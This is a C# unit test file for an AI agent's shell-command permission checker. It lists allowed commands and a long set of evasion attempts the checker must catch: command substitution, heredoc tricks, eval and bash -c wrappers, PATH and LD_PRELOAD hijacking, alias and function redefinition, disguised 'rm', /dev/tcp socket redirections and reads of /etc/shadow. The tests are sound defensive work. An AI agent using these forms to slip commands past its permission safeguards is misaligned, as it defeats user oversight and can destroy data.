using System.Text.Json;
using Cove.Agent.Permissions;
using Xunit;

namespace Cove.Tests.Agent.Permissions;

/// <summary>Commands that try to get past a pattern, and commands that must not be stopped by it.</summary>
public sealed class CommandRuleTests
{
    private static readonly ToolRules _rules = new(allow: ["Bash(npm run test:*)", "Bash(git status)", "Bash(git log *)", "Bash(ls *)", "Bash(echo:*)", "Bash(find *)", "Bash(grep:*)", "Bash(test:*)", "Bash(printf:*)", "Bash(sudo reboot now)"]);

    public static TheoryData<string> Allowed =>
    [
        "npm run test", "npm run test -- --watch", "npm  run   test", "npm run test && git status", "git status; npm run test", "npm run test\ngit status", "git status & npm run test",
        "git status | grep x", "git status |& grep x", "git status || npm run test", "(git status)", "{ git status; }", "! git status", "time git status", "time -p git status",
        "git log --format='%H; rm x'", "git log \"a && b\"", "git log 'a | b'", "git log a\\;b", "echo $(git status)", "echo \"$(git status)\"", "echo `git status`", "echo $HOME ${HOME} ${HOME:-x}",
        "echo \"$((1 + 2))\"", "git 'status'", "git \"status\"", "g\\it status", "NODE_ENV=test npm run test", "LANG=C TZ=UTC git status", "timeout 30 npm run test", "timeout -k 5 -s KILL 30s npm run test",
        "nohup npm run test", "nice -n 5 npm run test", "command git status", "exec npm run test", "env CI=1 npm run test", "git status | xargs echo", "bash -c 'git status; npm run test'", "sh -c 'git status'",
        "eval 'git status'", "eval git status", "if git status; then npm run test; else echo no; fi", "while git status; do npm run test; done", "for f in a b; do echo $f; done", "npm run test > /dev/null 2>&1",
        "npm run test 2>/dev/null", "npm run test &> /dev/null", "git status # && rm x", "# nothing\ngit status", "git status",
        "grep x <<< 'rm y'", "grep x <<'EOF'\nrm $(rm x)\nEOF", "grep x <<EOF\n$(git status)\nEOF", "grep x < input.txt", "grep x <(git status)", "npm run test \\\n  --watch", "find . -name '*.py'", "sudo reboot now",
        "echo 'it'\\''s'", "echo $'a\\'b'", "echo {a,b}", "ls *.txt", "echo \"a # b\" # c", "test -f x",
    ];

    public static TheoryData<string> NotAllowed =>
    [
        "", " ", "rm x", "npm run testing", "npm run test; rm x", "npm run test && rm x", "npm run test || rm x", "npm run test | rm x", "npm run test |& rm x", "npm run test & rm x", "npm run test\nrm x",
        "npm run test\n\n  rm x", "npm run test;rm x", "npm run test&&rm x", "rm x; npm run test", "(npm run test; rm x)", "{ npm run test; rm x; }", "! rm x", "time rm x", "npm run test $(rm x)", "npm run test `rm x`",
        "npm run test \"$(rm x)\"", "npm run test \"`rm x`\"", "npm run test <(rm x)", "npm run test >(rm x)", "npm run test \"${x:-$(rm x)}\"", "npm run test ${x:=$(rm x)}", "npm run test $((x[$(rm x)]))", "npm run test ${x@P}",
        "npm run test ${!x}", "npm run test $[x]", "npm run test <<EOF\n$(rm x)\nEOF", "npm run test <<EOF\n`rm x`\nEOF", "npm run test <<EOF\nbody\nEOF\nrm x", "npm run test <<-EOF\n\tbody\n\tEOF\nrm x", "npm run test <<EOF",
        "npm run test <<'E''OF'\nx\nEOF\nrm x", "npm run test <<\\EOF\nx\nEOF\nrm x", "npm run test <<EOF\n\\\nEOF\nrm x", "npm run test <<< $(rm x)", "npm run test <<< \"`rm x`\"", "npm run test # x\nrm x", "npm run test '#'; rm x",
        "npm run test a#b; rm x", "npm run test ';' ; rm x", "npm run test \\; rm; rm x", "npm run test \\\\; rm x", "npm run test 'a'; rm 'b'", "npm run test \"a\\\"\"; rm x", "npm run test $'a\\''; rm x; echo 'b'", "npm run test \"a\" 'b\" '; rm x # \"",
        "npm run test \\\n; rm x", "npm run test &\\\n& rm x", "npm run test > out.txt", "npm run test > /workspace/x", "npm run test >> ~/x", "npm run test >| /etc/x", "npm run test &> x", "npm run test > $X", "npm run test 2> x", "npm run test <> x",
        "> /workspace/x", "npm run test > /dev/tcp/1.2.3.4/80", "grep x < /dev/tcp/1.2.3.4/80", "npm run test > /proc/self/mem", "rm${IFS}x", "$X", "${X} y", "$(echo rm) x", "`echo rm` x", "r''m x", "\\rm x", "/bin/rm x", "./npm run test", "/tmp/npm run test",
        "{rm,x}", "r? x", "r* x", "PATH=/tmp npm run test", "LD_PRELOAD=x npm run test", "NODE_OPTIONS=--require=x npm run test", "BASH_ENV=x npm run test", "X=$(rm x) npm run test", "CI=$(rm x) npm run test", "PATH=/tmp", "PATH=/tmp; npm run test",
        "export PATH=/tmp; npm run test", "a=(1 2)", "a[$(rm x)]=1 npm run test", "npm() { rm x; }; npm run test", "function npm { rm x; }", "function npm() { rm x; }; npm run test", "alias npm=rm; npm run test", "case x in x) rm x;; esac", "case x in x) npm run test;; esac",
        "[[ -n $(rm x) ]]", "((x=1))", "for ((i=0;i<1;i++)); do rm x; done", "for f in $(rm x); do echo; done", "for PATH in /tmp; do npm run test; done", "for f in a; do rm x; done", "while true; do rm x; done", "if rm x; then echo; fi", "if echo; then rm x; fi",
        "select x in a; do rm x; done", "coproc rm x", "eval rm x", "eval 'rm x'", "eval $X", "eval \"$X\"", "eval 'npm run test; rm x'", "exec rm x", "exec -a npm rm x", "exec > x", "env rm x", "env -i rm x", "env -S 'rm x'", "env PATH=/tmp npm run test",
        "env X=1 rm x", "sudo npm run test", "sudo rm x", "sudo reboot now; rm x", "sudo reboot", "sudo reboot now now", "timeout 5 rm x", "timeout rm x", "timeout --foo 5 npm run test; rm x", "nohup rm x", "nice rm x", "stdbuf -oL rm x", "command rm x", "command -p rm x", "builtin eval rm x",
        "xargs rm", "git status | xargs rm", "git status | xargs -I{} rm {}", "git status | xargs bash", "git status | xargs sudo reboot now", "git status | xargs find", "bash -c 'rm x'", "bash -c \"rm x\"", "bash -c \"$X\"", "bash -c 'npm run test; rm x'", "bash x.sh", "bash < x", "sh x", "bash -ic 'npm run test'",
        "sh -c \"echo $'a\\\\'; rm x #'\"", "bash -c '$0' rm", "bash -c 'echo \"$(rm x)\"'", "zsh -c 'git status'", "source x", ". x", "trap 'rm x' EXIT", "watch npm run test", "setsid npm run test", "find . -exec rm {} ;", "find . -delete", "find . $X", "find . *", "find . -fprint x", "find . -ok rm {} \\;",
        "test -v 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' x", "test -v $X", "printf -v \"$X\" y", "npm run test \u00a0; rm x", "npm run test \r\nrm x", "npm run test \0 rm", "npm run test )", "( npm run test", "npm run test '", "npm run test \"", "npm run test `", "npm run test $(", "npm run test ${",
        "npm run test (x)", "npm run test <", "npm run test ;;", "npm run test <(x", "<(true)npm run test", "{fd}>/dev/null npm run test", "'npm run' test", "'git status'", "npm\\ run test", "coproc npm run test", "let 'a[$(rm x)]=1'", "declare 'a[$(rm x)]=1'", "npm run test ?(x)", "1>&2 rm x", "echo \"$\\\n(rm x)\"", "echo $\\\n'\\' '$(rm x)\\'", "echo \"$\\\n{x@P}\"", "echo \"$\\\n\\\n[x]\"", "fc -s npm=rm",
        "for x in '5 rm'; do nice -n $x ls x; done", "for x in 'L rm'; do stdbuf -o $x ls x; done", "for x in 'KILL 5 rm'; do timeout -s $x 5 ls x; done", "for x in '1 rm'; do env CI=$x ls x; done", "env CI=* ls", "nice -n", "hash -p /tmp/x npm",
    ];

    [Theory]
    [MemberData(nameof(Allowed))]
    public void What_is_allowed_passes(string command) => Assert.Equal((Permission.Allow, command), (Decide(_rules, command).Permission, command));

    [Theory]
    [MemberData(nameof(NotAllowed))]
    public void What_is_not_allowed_whole_is_asked_about(string command) => Assert.Equal((Permission.Ask, command), (Decide(_rules, command).Permission, command));

    [Theory]
    [InlineData("rm -rf x")]
    [InlineData("ls; rm -rf x")]
    [InlineData("FOO=1 rm -rf x")]
    [InlineData("/bin/rm -rf x")]
    [InlineData("\\rm -rf x")]
    [InlineData("r''m x")]
    [InlineData("sudo rm x")]
    [InlineData("sudo -u root rm x")]
    [InlineData("timeout 5 rm x")]
    [InlineData("env A=1 B=2 rm x")]
    [InlineData("xargs -n1 rm x")]
    [InlineData("bash -c 'ls; rm x'")]
    [InlineData("sudo bash -c 'rm x'")]
    [InlineData("eval 'rm x'")]
    [InlineData("echo $(rm x)")]
    [InlineData("find . -exec rm {} ;")]
    [InlineData("case x in x) rm x;; esac")]
    [InlineData("f() { rm x; }; f")]
    [InlineData("[[ 1 ]] && \"rm\" x")]
    public void What_is_refused_stays_refused_in_disguise(string command)
    {
        var rules = new ToolRules(allow: ["Bash"], deny: ["Bash(rm *)"], mode: PermissionMode.BypassPermissions);
        Assert.Equal((Permission.Deny, "Bash(rm *)"), (Decide(rules, command).Permission, Decide(rules, command).Rule));
        Assert.Equal(Permission.Ask, Decide(new ToolRules(allow: ["Bash"], ask: ["Bash(rm:*)"]), command).Permission);
    }

    [Theory]
    [InlineData("Bash(ls *)", "ls -la", true)]
    [InlineData("Bash(ls *)", "ls", true)]
    [InlineData("Bash(ls *)", "lsof", false)]
    [InlineData("Bash(ls*)", "lsof", true)]
    [InlineData("Bash(ls:*)", "lsof", false)]
    [InlineData("Bash(git * main)", "git push origin main", true)]
    [InlineData("Bash(* --version)", "node --version", true)]
    [InlineData("Bash(* --version)", "$X --version", false)]
    [InlineData("Bash(npm run build)", "npm run build", true)]
    [InlineData("Bash(npm run build)", "npm run build x", false)]
    [InlineData("Bash(git:* push)", "git push", false)]
    [InlineData("Bash(FOO=bar npm test)", "FOO=bar npm test", true)]
    [InlineData("Bash(a; b && c)", "a; b && c", true)]
    [InlineData("Bash", "anything; at all", true)]
    [InlineData("Bash(*)", "anything; at all", true)]
    [InlineData("bash", "anything", true)]
    [InlineData("Read", "ls", false)]
    public void Patterns_mean_what_they_mean_elsewhere(string rule, string command, bool allowed) =>
        Assert.Equal(allowed ? Permission.Allow : Permission.Ask, Decide(new ToolRules(allow: [rule]), command).Permission);

    [Fact]
    public void Redirections_are_edits()
    {
        var rules = new ToolRules(allow: ["Bash(echo:*)", "Edit(/out/**)"], deny: ["Edit(/out/secret)", "Read(//etc/shadow)"]);
        Assert.Equal(Permission.Allow, Decide(rules, "echo x > /workspace/out/a").Permission);
        Assert.Equal(Permission.Ask, Decide(rules, "echo x > out/a").Permission); // relative to a directory that nobody knows
        Assert.Equal(Permission.Ask, Decide(rules, "echo x > /workspace/out/../b").Permission);
        Assert.Equal(Permission.Deny, Decide(rules, "echo x >> /workspace/out/./secret").Permission);
        Assert.Equal(Permission.Deny, Decide(rules, "echo x < /etc/shadow").Permission);
    }

    [Fact]
    public void A_reader_of_any_text_comes_to_an_end()
    {
        var random = new Random(7);
        const string Alphabet = "ab $`'\"\\(){}<>|&;#\n=[]*!~-E";
        for (var i = 0; i < 20_000; i++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, 30)).Select(_ => Alphabet[random.Next(Alphabet.Length)]));
            Assert.NotEqual(Permission.Deny, Decide(_rules, text).Permission);
        }

        Assert.Equal(Permission.Ask, Decide(_rules, new string('(', 5_000)).Permission);
        Assert.Equal(Permission.Ask, Decide(_rules, string.Concat(Enumerable.Repeat("$(", 4_000))).Permission);
        Assert.Equal(Permission.Ask, Decide(_rules, "npm run test " + new string('a', 20_000)).Permission);
    }

    internal static PermissionDecision Decide(ToolRules rules, string command) => rules.Decide("bash", JsonSerializer.SerializeToElement(new { command }));
}
